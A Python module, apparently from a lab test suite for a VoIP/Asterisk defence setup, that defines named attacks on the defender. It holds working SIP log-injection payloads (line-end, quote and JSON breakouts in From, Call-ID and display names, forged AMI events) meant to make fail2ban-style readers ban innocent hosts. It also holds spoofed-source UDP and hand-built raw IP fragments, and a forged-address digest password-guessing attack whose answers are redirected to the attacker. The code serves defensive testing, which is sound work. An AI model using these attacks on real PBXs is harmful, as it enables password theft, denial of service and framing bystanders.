"""Attacks on the defender: text that makes a log reader ban somebody else, and datagrams with somebody else's source address."""
import hashlib
import random
import re
import socket
import struct
import threading
import time
from urllib.parse import quote

import sip
from doors import say
from lab import TRUNK_IP, TRUNK_LOGIN, WORLD, password
from scene import attack

INJECTION, SOURCES = "Forged text", "Forged senders"
# More than any threshold: a stock fail2ban jail counts 10.
TIMES = 14
NOBODY = "What is forged must ban nobody; the sender is another matter."


def stamp():
    return time.strftime("%Y-%m-%d %H:%M:%S")


def line_start(level):
    return quote(f"\n[{stamp()}] {level}[1] ", safe="")


def security_event(address):
    return (f'SecurityEvent="InvalidAccountID",EventTV="{stamp().replace(" ", "T")}.123+0000",Severity="Error",Service="PJSIP",EventVersion="1",'
            f'AccountID="admin",SessionID="1",LocalAddress="IPV4/UDP/{WORLD}/5060",RemoteAddress="IPV4/UDP/{address}/5060"')


def notice(address):
    return (f"res_pjsip/pjsip_distributor.c: Request 'REGISTER' from '<sip:1@a>' failed for '{address}:5060' (callid: 1) - "
            "No matching endpoint found")


def dumped(address, kind, before=""):
    """The body of a request without CSeq, which is dumped raw into the error log, line ends included: whole lines, as many as 4,000 bytes hold."""
    lines = [before]
    for n in range(TIMES):
        at = f"{stamp()}.{n:03}"
        event = security_event(address)
        escaped = event.replace('"', '\\"')
        lines.append({
            "notice": f"[{at}] NOTICE[77] {notice(address)}\n",
            "security": f"[{at}] SECURITY[77] res_security_log.c: {event}\n",
            "json": f'{{"hostname":"","timestamp":"{at}","identifiers":{{"lwp":1,"callid":""}},"logmsg":{{"location":{{"filename":"res_security_log.c",'
                    f'"function":"security_event_stasis_cb","line":114}},"level":"SECURITY","message":"{escaped}"}}}}\n',
        }[kind])
    text = "\n"
    for line in lines:
        if len(text) + len(line) > 3300:
            break
        text += line
    return text


def injected(name, what, packet, times=TIMES):
    """packet(line, address to accuse) -> bytes; each from another sender, so that banning the sender is no defence."""
    def run(scene):
        device, _ = scene.victim()
        accused = [device.address, scene.bystander()]
        for n in range(times * len(accused)):
            source = scene.source(1 + n)
            with scene.connection(source, patience=0.05) as line:
                line.send(packet(line.line, accused[n % len(accused)]))
                scene.suspects.add(source)
            time.sleep(0.05)
    attack(name, INJECTION, what, expect="hold", because=NOBODY)(run)


injected("inject-line-host", "a line end in the From user, and a Call-ID that reads as 'Host ... failed to authenticate'", lambda line, address:
         line.message("OPTIONS", line_start("NOTICE"), call_id=f"x: Host {address} failed to authenticate"))
injected("inject-line-request", "a line end in the From user, and a Call-ID that reads as a refused request", lambda line, address:
         line.message("OPTIONS", line_start("NOTICE"), call_id=notice(address)))
injected("inject-line-security", "a line end in the From user, and a Call-ID that reads as a security event", lambda line, address:
         line.message("OPTIONS", line_start("SECURITY"), call_id=f"res_security_log.c: {security_event(address)}"))
injected("inject-account", "a quote in the From user, and a RemoteAddress of its own", lambda line, address:
         line.message("OPTIONS", f"%22,RemoteAddress=%22IPV4/UDP/{address}", call_id=sip.fresh()))
injected("inject-call-id", "a quote in the Call-ID, and the rest of a security event", lambda line, address:
         line.message("OPTIONS", "nobody", call_id=f'x",LocalAddress="IPV4/UDP/{WORLD}/5060",RemoteAddress="IPV4/UDP/{address}/5060",Challenge="'))
injected("inject-json", "the end of a JSON string in the Call-ID", lambda line, address:
         line.message("OPTIONS", "nobody", call_id=f'\\",RemoteAddress=\\"IPV4/UDP/{address}/5060\\""}}}}'))
injected("inject-notice", "a Call-ID that ends the notice's own and begins another", lambda line, address:
         line.message("OPTIONS", "nobody", call_id=f"z) x' failed for '{address}:5060' (callid: 1"))
injected("inject-display-name", "a display name that reads as the end of a notice", lambda line, address:
         line.message("OPTIONS", "nobody", call_id=sip.fresh(),
                      sender=f"\"x' failed for '{address}:5060' (callid: 1) - No matching endpoint found\" <sip:nobody@{WORLD}>;tag=1"))
injected("inject-user-parameter", "a From whose user= parameter ends the notice, with a line end", lambda line, address:
         line.message("OPTIONS", "nobody", call_id=sip.fresh(), sender=f"<sip:nobody@{WORLD};user="
                      + quote(f"phone>' failed for '{address}:5060' (callid: 1) - Failed to authenticate\n", safe="") + ">;tag=1"))
for _kind, _times in (("notice", 1), ("security", 2), ("json", 2)):
    injected(f"inject-dump-{_kind}", f"{'one malformed datagram' if _times == 1 else 'two malformed datagrams'} for each victim, whose body holds whole {_kind} lines: "
             "Asterisk dumps it into the error log", lambda line, address, kind=_kind:
             line.message("OPTIONS", "nobody", without=("CSeq",), body=dumped(address, kind)), times=_times)
injected("inject-dump-end", "the same with notices, and the dump says that it ends before it does", lambda line, address:
         line.message("OPTIONS", "nobody", without=("CSeq",), body=dumped(address, "notice", "\n-- end of packet.\n")), times=1)
injected("inject-via", "Via, Contact and From that name somebody else", lambda line, address:
         sip.Line(address, WORLD, 5060).message("REGISTER", "nobody", sender=f"<sip:nobody@{address}>;tag=1"))
injected("inject-ami-header", "a second RemoteAddress header in AMI's events", lambda line, address:
         line.message("REGISTER", quote(f"\r\nRemoteAddress: IPV4/UDP/{address}/1", safe="")))
injected("inject-ami-event", "a whole forged AMI event (Shutdown)", lambda line, address:
         line.message("REGISTER", quote("\r\n\r\nEvent: Shutdown\r\nX: 1", safe="")))


@attack("inject-http-manager", INJECTION, "AMI over HTTP: a user name that holds whole lines of the security log", expect="hold", because=NOBODY)
def _(scene):
    device, _ = scene.victim()
    accused = [device.address, scene.bystander()]
    for n in range(2 * TIMES):
        source = scene.source(1 + n)
        scene.suspects.add(source)
        forged = quote(f"x\n[{stamp()}] SECURITY[77] res_security_log.c: {security_event(accused[n % 2])}\n", safe="")
        say(scene, 8088, f"GET /rawman?action=login&username={forged}&secret=x HTTP/1.1\r\nHost: pbx\r\nConnection: close\r\n\r\n", source)


@attack("inject-caller-number", INJECTION, "calls over the trunk from a caller whose number holds log lines and AMI events", alone=True, expect="hold", because=NOBODY)
def _(scene):
    bystander = scene.bystander()
    texts = (line_start("NOTICE") + f"Host {bystander} failed to authenticate"[:60], quote("\r\n\r\nEvent: Hangup\r\nX: 1\r\n", safe=""))
    for n in range(2 * TIMES):
        scene.office.trunk.ask("INVITE", texts[n % 2].replace(" ", "%20"), target="none" if n % 4 < 2 else "100", body=sip.SDP.format(TRUNK_IP), patience=0.5)


def refused(line, user, n):
    """What nobody who saw a challenge would write: an unknown user, or an invented Authorization for a real one."""
    if n % 2:
        return line.message("REGISTER", f"{7000 + n}")
    return line.message("REGISTER", user, authorization=sip.INVENTED.format(user, WORLD))


def from_trunks(count):
    def run(scene):
        pairs = []
        for n in range(count):
            trunk = (TRUNK_LOGIN, TRUNK_IP)[n // 2 % 2] if count > 3 else TRUNK_LOGIN
            pairs.append((trunk, refused(sip.Line(trunk, WORLD, 5060), "trunk-auth", n)))
        sip.forged(scene.lab.namespace("att"), pairs, pause=0.0005 if count > 100 else 0.05)
    attack(f"forged-trunk-{count}", SOURCES, f"{count:,} forged datagram{'s' if count > 1 else ''} 'from' the trunk{'s' if count > 3 else ''}", alone=True,
           expect="hold", because=NOBODY)(run)


for _count in (1, 3, 24, 10000):
    from_trunks(_count)


@attack("forged-trunk-call", SOURCES, "INVITE 'from' the trunk that is known by its address: the dialplan answers it", alone=True, expect="hold",
        because="To the PBX it is the trunk. Only TLS, TCP or a password on the trunk helps.")
def _(scene):
    sip.forged(scene.lab.namespace("att"), [(TRUNK_IP, sip.Line(TRUNK_IP, WORLD, 5060).message(
        "INVITE", "4930123456", target=f"1{n:03}", body=sip.SDP.format(TRUNK_IP))) for n in range(TIMES)], pause=0.2)


@attack("forged-phone", SOURCES, "200 refused datagrams 'from' a registered phone at home", expect="hold", because=NOBODY)
def _(scene):
    device, account = scene.victim()
    sip.forged(scene.lab.namespace("att"), [(device.address, refused(sip.Line(device.address, WORLD, 5060), account, n)) for n in range(200)], pause=0.01)


@attack("forged-desk", SOURCES, "200 refused datagrams 'from' a registered phone in the office", alone=True, expect="hold", because=NOBODY)
def _(scene):
    device = scene.office.desks[0]
    sip.forged(scene.lab.namespace("att"), [(device.address, refused(sip.Line(device.address, WORLD, 5060), "1001", n)) for n in range(200)], pause=0.01)


@attack("forged-gateway", SOURCES, "24 refused datagrams 'from' the PBX's own router", alone=True, expect="hold", because=NOBODY)
def _(scene):
    sip.forged(scene.lab.namespace("att"), [("10.80.0.2", refused(sip.Line("10.80.0.2", WORLD, 5060), "1001", n)) for n in range(24)], pause=0.05)


@attack("forged-bystander", SOURCES, "24 refused datagrams 'from' an address that nothing vouches for", expect="hold",
        because="UDP proves no address. What nothing vouches for is banned shortly (unproven = short); unproven = alert bans nobody.")
def _(scene):
    address = scene.bystander()
    sip.forged(scene.lab.namespace("att"), [(address, refused(sip.Line(address, WORLD, 5060), "1001", n)) for n in range(24)], pause=0.05)


@attack("forged-line-end", SOURCES, "one datagram each 'from' a registered phone, a trunk and a bystander, whose From user holds a forged AMI event", alone=True,
        expect="hold", because=NOBODY)
def _(scene):
    device, _ = scene.victim()
    sources = [device.address, TRUNK_LOGIN, scene.bystander()]
    sip.forged(scene.lab.namespace("att"), [(source, sip.Line(source, WORLD, 5060).message(
        "REGISTER", quote("\r\n\r\nEvent: Shutdown\r\nX: 1", safe=""))) for source in sources], pause=0.1)


@attack("forged-scanner", SOURCES, "one OPTIONS each 'from' a registered phone, a trunk and a bystander, which looks like svmap's", alone=True, expect="hold", because=NOBODY)
def _(scene):
    device, _ = scene.victim()
    sources = [device.address, TRUNK_LOGIN, scene.bystander()]
    sip.forged(scene.lab.namespace("att"), [(source, sip.Line(source, WORLD, 5060, agent="friendly-scanner").message(
        "OPTIONS", "100", sender='"sipvicious" <sip:100@1.1.1.1>;tag=3130303031', uri="sip:100@1.1.1.1")) for source in sources], pause=0.1)


def answered_at(address, data):
    """The same request, whose sender wants its answer at another address (RFC 3261 section 18.2.2)."""
    return re.sub(rb"(Via: SIP/2.0/UDP )[^;]+;branch=([^;\r]+);rport", rf"\g<1>{address}:5060;maddr={address};branch=\2".encode(), data, count=1)


def reader(scene, address):
    with scene.lab.namespace("att"):
        plug = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    plug.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    plug.bind((address, 5060))
    plug.settimeout(0.5)
    return plug


def invented(user, secret):
    """What Asterisk 22 checks before it looks at the nonce, which is nobody's."""
    def md5(text):
        return hashlib.md5(text.encode()).hexdigest()
    nonce, uri = f"{int(time.time())}/{sip.fresh()}{sip.fresh()}", f"sip:{WORLD}"
    response = md5(":".join([md5(f"{user}:asterisk:{secret}"), nonce, "00000001", "c0ffee", "auth", md5(f"REGISTER:{uri}")]))
    return (f'Digest username="{user}",realm="asterisk",nonce="{nonce}",uri="{uri}",response="{response}",cnonce="c0ffee",nc=00000001,qop=auth,algorithm=MD5')


def forged_source(n):
    return f"11.{n % 250}.{n // 250 % 250}.{n % 200 + 1}"


@attack("forged-answers-elsewhere", SOURCES, "4,000 guesses at 400/s with invented nonces, each 'from' another address, answered at the guesser's own (maddr); stale=true tells him the right one",
        alone=True, expect="hold", because="Nobody proves where he is, so nobody can be banned for it. The account is told, and that its password was found.")
def _(scene):
    real, count, per_second = scene.source(), 4000, 400
    answers, found, ends = [0], [], threading.Event()
    with reader(scene, real) as plug:
        def read():
            while not ends.is_set():
                try:
                    data = plug.recv(65536)
                except OSError:
                    continue
                answers[0] += 1
                if b"stale=true" in data:
                    found.append(True)
        worker = threading.Thread(target=read)
        worker.start()
        begin = time.monotonic()
        for done in range(0, count, 50):
            pairs = []
            for n in range(done, done + 50):
                source = forged_source(n)
                secret = password(scene.account) if n == count * 3 // 4 else f"guess{n}"
                pairs.append((source, answered_at(real, sip.Line(source, WORLD, 5060).message("REGISTER", scene.account, authorization=invented(scene.account, secret)))))
            sip.forged(scene.lab.namespace("att"), pairs)
            time.sleep(max(0.0, begin + (done + 50) / per_second - time.monotonic()))
        time.sleep(2)
        ends.set()
        worker.join()
    # In whose name the account was guessed enough to be told, and in whose the right guess came.
    scene.suspects.update((forged_source(9), forged_source(count * 3 // 4)))
    scene.notes.append(f"{answers[0]} answers read; the right password was {'found' if found else 'not found'}")


@attack("forged-long-call-id", SOURCES, "the second's nonce of an address that sends nothing, read in an answer too long for HEP (a Call-ID of 40 KB, maddr), and guesses 'from' that address that echo it",
        alone=True, expect="hold", because=NOBODY)
def _(scene):
    address, real = scene.bystander(), scene.source()
    line = sip.Line(address, WORLD, 5060)
    long = 0
    with reader(scene, real) as plug:
        for _ in range(4):
            # All four within one second: its nonce is the same.
            time.sleep(1.02 - time.time() % 1)
            fragments(scene, address, answered_at(real, line.message("REGISTER", scene.account, call_id="x" * 40_000 + sip.fresh())))
            try:
                answer = sip.Answer(plug.recv(65536))
            except OSError:
                continue
            long += 1
            sip.forged(scene.lab.namespace("att"), [(address, line.message("REGISTER", scene.account))])
            time.sleep(0.1)
            sip.forged(scene.lab.namespace("att"), [(address, line.message("REGISTER", scene.account, cseq=2, authorization=sip.digest(
                answer, "REGISTER", f"sip:{WORLD}", scene.account, f"guess{n}"))) for n in range(4)], pause=0.02)
    scene.notes.append(f"{long} of 4 long answers came")


@attack("forged-challenge", SOURCES, "a challenge that the forger wrote himself: the PBX repeats it from To, behind a CR, in its answer to an address that sends nothing; then guesses 'from' there that echo it",
        alone=True, expect="hold", because=NOBODY)
def _(scene):
    address, nonce = scene.bystander(), "1700000000/0123456789abcdef0123456789abcdef"
    line = sip.Line(address, WORLD, 5060)
    to = f'"\rWWW-Authenticate: Digest realm=\\"asterisk\\",nonce={nonce.replace("/", "")}\r" <sip:{scene.account}@{WORLD}>'
    sip.forged(scene.lab.namespace("att"), [(address, line.message("REGISTER", scene.account, to=to))])
    time.sleep(0.3)
    guess = sip.INVENTED.format(scene.account, WORLD).replace(nonce, nonce.replace("/", ""))
    sip.forged(scene.lab.namespace("att"), [(address, line.message("REGISTER", scene.account, cseq=2, authorization=guess)) for _ in range(TIMES)], pause=0.02)


def fragments(scene, source, data):
    """By hand: the kernel makes none of what has its header already."""
    udp, ident = struct.pack("!HHHH", 5060, 5060, 8 + len(data), 0) + data, random.getrandbits(16)
    with scene.lab.namespace("att"):
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    with raw:
        for at in range(0, len(udp), 1400):
            part, more = udp[at:at + 1400], 0x2000 if at + 1400 < len(udp) else 0
            raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(part), ident, more | at // 8, 64, 17, 0,
                                   socket.inet_aton(source), socket.inet_aton(WORLD)) + part, (WORLD, 0))
